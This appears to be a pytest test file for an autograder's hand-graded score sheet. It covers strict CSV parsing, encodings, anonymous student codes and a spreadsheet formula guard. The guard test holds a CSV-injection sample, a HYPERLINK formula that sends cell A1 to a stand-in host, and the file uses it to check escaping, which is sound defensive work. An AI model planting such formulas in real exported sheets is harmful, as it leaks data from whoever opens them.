"""The hand-grading sheet (``manual_scores.csv``): strict reading of what people type and save, writing
that loses nothing, anonymous codes and where their key lives, the formula guard."""

from __future__ import annotations

import codecs
import math
import os
import stat
from pathlib import Path

import pytest

from autograder import manual_scores as sheets
from autograder.lms import sheets as people_sheets

Q = "written_pooling"
HEADER = "id,question,points,comment\n"


@pytest.fixture
def roster() -> sheets.Roster:
    return sheets.Roster({("1001", Q): 3.0, ("1002", Q): 3.0, ("2001", Q): 3.0},
                         {"1001": "anon-1111aaaa", "1002": "anon-2222bbbb", "2001": "anon-3333cccc"})


def _sheet(tmp_path: Path, body: str | bytes, name: str = "manual_scores.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(body if isinstance(body, bytes) else body.encode())
    return path


def _refused(path: Path, roster: sheets.Roster, anonymous: bool = False) -> list[str]:
    with pytest.raises(sheets.ManualScoresError) as err:
        sheets.read_scores(path, roster, anonymous)
    assert "none of its rows were merged" in str(err.value)
    return err.value.problems


# --- every cell where it belongs ----------------------------------------------------------------

@pytest.mark.parametrize("row, says", [
    # an unquoted decimal comma would read as 1 point with the comment "5"
    (f"1001,{Q},1,5,Explains weight sharing", ["line 3: 5 cells where the header has 4", '("1,5")']),
    # a comment with unquoted commas would lose its end
    (f"1001,{Q},2,Good, but pooling, not sharing", ["line 3: 6 cells", 'double quotes ("Good, but ...")']),
    (f"1001,{Q},2", ["line 3: 3 cells where the header has 4", "end a row without a comment with a comma"]),
    (f"1001,{Q},\"2\"x,", ["line 3:", "double quotes"]),  # a stray quote
])
def test_a_row_whose_cells_do_not_match_the_header_is_refused_saying_how_to_quote(tmp_path, roster, row, says):
    path = _sheet(tmp_path, f"{HEADER}1002,{Q},3,\n{row}\n")
    (problem,) = _refused(path, roster)
    assert all(s in problem for s in says), problem


@pytest.mark.parametrize("points", ["0_3", "３", "1e0", "nan", "inf", "0x1", "1.5.2", "1,5,", "½", "٣", "2 5", "--1"])
def test_points_are_plain_numbers_only(tmp_path, roster, points):
    path = _sheet(tmp_path, f'{HEADER}1001,{Q},"{points}",\n')
    (problem,) = _refused(path, roster)
    assert problem.startswith("line 2: points") and "not a plain number" in problem and '"2,5"' in problem


@pytest.mark.parametrize("points, value", [("3", 3.0), ("2.5", 2.5), ('"2,5"', 2.5), (".5", 0.5), ("+1", 1.0),
                                           ("-0", 0.0), ("-0.0", 0.0), (" 1 ", 1.0), ("0", 0.0)])
def test_points_accept_a_decimal_point_or_a_quoted_decimal_comma(tmp_path, roster, points, value):
    path = _sheet(tmp_path, f"{HEADER}1001,{Q},{points},ok\n")
    (got, comment), = sheets.read_scores(path, roster).values()
    assert got == value and math.copysign(1, got) == 1 and comment == "ok"  # -0 is 0, not -0.0


# --- however it was saved -----------------------------------------------------------------------

@pytest.mark.parametrize("encoding, body", [
    ("utf-8-sig", f"{HEADER}1001,{Q},2.5,Très bien\n1002,{Q},,\n"),  # Excel's "CSV UTF-8"
    ("utf-8", f"{HEADER}1001,{Q},2.5,Très bien\r\n1002,{Q},,\r\n".replace("\n", "\r\n").replace("\r\r", "\r")),
    ("utf-8", f"{HEADER}1001,{Q},2.5,Très bien\n\n1002,{Q},,\n\n\n"),  # blank and trailing empty lines
    ("utf-8", f"id;question;points;comment\n1001;{Q};2,5;Très bien\n1002;{Q};;\n"),  # a decimal-comma locale
    ("utf-16", f"id\tquestion\tpoints\tcomment\n1001\t{Q}\t2.5\tTrès bien\n1002\t{Q}\t\t\n"),  # "Unicode text"
])
def test_how_a_spreadsheet_saved_it_is_read_and_kept_without_duplicating_rows(tmp_path, roster, encoding, body):
    path = _sheet(tmp_path, body.encode(encoding))
    assert sheets.read_scores(path, roster) == {("1001", Q): (2.5, "Très bien")}
    change = sheets.update(path, roster, anonymous=False, out=tmp_path)
    assert change.added == 1 and change.renamed == 0  # 2001 only: the BOM'd header did not hide 1001 and 1002
    again = sheets.parse(path)
    assert [r.key for r in again.rows] == [("1001", Q), ("1002", Q), ("2001", Q)]
    assert sheets.update(path, roster, anonymous=False, out=tmp_path).added == 0  # the next run adds nothing
    data = path.read_bytes()
    original = body.encode(encoding)
    assert data.startswith(codecs.BOM_UTF8) == original.startswith(codecs.BOM_UTF8)
    assert again.delimiter == sheets.parse(_sheet(tmp_path, original, "copy.csv")).delimiter
    assert (b"\r\n" in data) == (b"\r\n" in original) or encoding == "utf-16"
    assert sheets.read_scores(path, roster) == {("1001", Q): (2.5, "Très bien")}  # the typed cells as they were
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_a_file_that_is_not_utf8_text_is_refused_saying_how_to_save_it(tmp_path, roster):
    path = _sheet(tmp_path, f"{HEADER}1001,{Q},2,Très bien\n".encode("cp1252"))
    (problem,) = _refused(path, roster)
    assert "line 2: not UTF-8" in problem and "CSV UTF-8" in problem
    (problem,) = _refused(_sheet(tmp_path, "student,q,pts\n1001,x,1\n"), roster)
    assert problem.startswith("line 1: expected the header id,question,points,comment")


def test_every_problem_of_a_file_is_reported_at_once_with_did_you_mean(tmp_path, roster):
    path = _sheet(tmp_path, HEADER + "\n".join([
        f"1001,{Q},3,",
        f"10001,{Q},1,",  # a typo'd id
        "1002,written_poolin,1,",  # a typo'd question
        f"1002,{Q},4,",  # out of range
        f"1001,{Q},2,",  # a second row
        f"2001,{Q},1,5,too many cells",
        f"anon-3333ccc,{Q},1,",  # a typo'd code
    ]) + "\n")
    problems = _refused(path, roster)
    assert [p.split(":")[0] for p in problems] == ["line 3", "line 4", "line 5", "line 6", "line 7", "line 8"]
    text = "\n".join(problems)
    assert "unknown student id '10001'; did you mean '1001'" in text
    assert "'written_poolin' is not a hand-graded question of '1002'; did you mean 'written_pooling'?" in text
    assert "out of range 0..3" in text and "a second row for '1001'" in text and "(first on line 2)" in text
    assert "'anon-3333ccc'; did you mean 'anon-3333cccc'?" in text
    # an anonymous sheet's suggestions name codes, never an id the graders must not see
    path = _sheet(tmp_path, f"{HEADER}1001x,{Q},1,\n")
    (problem,) = _refused(path, roster, anonymous=True)
    assert problem == "line 2: unknown student id '1001x'"
    assert "did you mean '1001'" in _refused(path, roster, anonymous=False)[0]


def test_a_refused_file_is_not_rewritten(tmp_path, roster):
    body = f"{HEADER}1001,{Q},1,5,comment\n"
    path = _sheet(tmp_path, body)
    with pytest.raises(sheets.ManualScoresError):
        sheets.update(path, roster, anonymous=True, out=tmp_path)
    assert path.read_text() == body and not (tmp_path / ".private").exists()


# --- anonymity ----------------------------------------------------------------------------------

def test_the_anonymous_key_lives_outside_what_graders_get_and_an_old_one_moves_there(tmp_path):
    out = tmp_path / "out"
    (out / "manual").mkdir(parents=True)
    (out / "manual" / ".anonymous-key").write_text("0123456789abcdef\n")  # where earlier versions kept it
    key = sheets.anonymous_key(out)
    assert key == b"0123456789abcdef"  # the codes stay the same
    assert not (out / "manual" / ".anonymous-key").exists()
    path = out / ".private" / "anonymous-key"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert sheets.anonymous_key(out) == key
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    assert len(sheets.anonymous_key(fresh)) == 32 and not (fresh / "manual").exists()
    assert sheets.anonymous_code(key, "1001") != sheets.anonymous_code(sheets.anonymous_key(fresh), "1001")


def test_a_sheet_with_ids_is_rewritten_with_codes_keeping_a_copy_and_every_typed_cell(tmp_path, roster):
    path = _sheet(tmp_path, f'{HEADER}1001,{Q},"2,5","Good, clear"\n1002,{Q},,\n')
    change = sheets.update(path, roster, anonymous=True, out=tmp_path)
    assert change.renamed == 2 and change.added == 1
    assert change.backup.parent == tmp_path / ".private" and "1001" in change.backup.read_text()
    text = path.read_text()
    assert "1001" not in text and "1002" not in text and "anon-1111aaaa" in text
    assert sheets.read_scores(path, roster) == {("1001", Q): (2.5, "Good, clear")}  # merges to the right student
    assert sheets.uses_codes(sheets.parse(path), roster)
    change = sheets.update(path, roster, anonymous=False, out=tmp_path)  # and back, on --no-anonymous
    assert change.renamed == 3 and "anon-" not in path.read_text()


# --- the spreadsheet formula guard --------------------------------------------------------------

def test_formulas_in_ids_and_comments_are_guarded_when_written_and_read_back_as_typed(tmp_path):
    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'  # an id from an LMS file name: untrusted
    roster = sheets.Roster({(evil, Q): 3.0, ("-1002", Q): 3.0}, {evil: "anon-1", "-1002": "anon-2"})
    path = tmp_path / "manual_scores.csv"
    sheets.update(path, roster, anonymous=False, out=tmp_path)
    rows = sheets.parse(path).rows
    assert [r.cells[0] for r in rows] == ["-1002", "'" + evil]  # guarded; a number-like id stays as it is
    assert [r.key[0] for r in rows] == ["-1002", evil]  # and read back as it is
    # a TA types a comment that starts a formula, in a text editor (unguarded); the next rewrite guards it
    path.write_text(path.read_text().replace("-1002,written_pooling,,", '-1002,written_pooling,1,"@SUM(1+1)*cmd"'))
    assert sheets.read_scores(path, roster) == {("-1002", Q): (1.0, "@SUM(1+1)*cmd")}
    roster3 = sheets.Roster({**roster.expected, ("1003", Q): 3.0}, {**roster.codes, "1003": "anon-3"})
    assert sheets.update(path, roster3, anonymous=False, out=tmp_path).added == 1
    assert '"\'@SUM(1+1)*cmd"' in path.read_text() or "'@SUM(1+1)*cmd" in path.read_text()
    assert sheets.read_scores(path, roster3) == {("-1002", Q): (1.0, "@SUM(1+1)*cmd")}
    assert people_sheets.uncsv_cell(people_sheets.csv_cell(evil)) == evil
    assert people_sheets.uncsv_cell("'plain") == "'plain" and people_sheets.csv_cell("-1.5") == "-1.5"


def test_sheets_module_has_no_cycle_back_to_the_reports():
    """The sheet writer for people is its own module: manual.py and manual_scores.py need no reports."""
    import subprocess
    import sys

    code = ("import sys, autograder.manual, autograder.manual_scores; "
            "assert 'autograder.lms.reports' not in sys.modules, 'reports imported'")
    subprocess.run([sys.executable, "-c", code], check=True, cwd=os.path.dirname(os.path.dirname(__file__)))
